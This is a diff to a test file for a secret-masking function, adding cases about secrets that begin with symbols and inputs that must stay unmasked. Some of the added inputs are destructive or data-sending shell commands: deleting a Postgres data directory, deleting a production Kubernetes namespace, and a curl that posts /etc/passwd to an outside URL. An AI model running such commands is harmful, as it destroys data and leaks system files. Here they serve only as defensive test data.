@@ -32,6 +32,14 @@ describe("masking hides", () => {
   });
 });
 
+test("a secret that begins with a sign is masked, too", () => {
+  expect(masked('password="&;)abcdef"').secrets).toEqual(["&;)abcdef"]);
+});
+
+test("a mask without an end covers one line", () => {
+  expect(masked(`"token": 'abcdefgh\nkubectl delete namespace prod`).text).toContain("kubectl delete");
+});
+
 describe("masking does not hide", () => {
   test.each([
     "Rotate the token of the staging service",
@@ -47,6 +55,10 @@ describe("masking does not hide", () => {
     "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
     `{"password": "", "note": "it's a long text"}`,
     'echo "password="\nread password\necho "thanks"',
+    'grep -r "password=" /etc/app && rm -rf "/var/lib/postgres"',
+    'cat log | grep "token="; kubectl delete namespace prod',
+    `grep -r 'secret='/etc/app && rm -rf '/var/lib/postgres'`,
+    'curl -d "token=" https://example.org/x -d @/etc/passwd',
     `{"token": 4096, "note": "it's a long text"}`,
   ])("%s", (text) => {
     expect(masked(text)).toEqual({ text, secrets: [] });
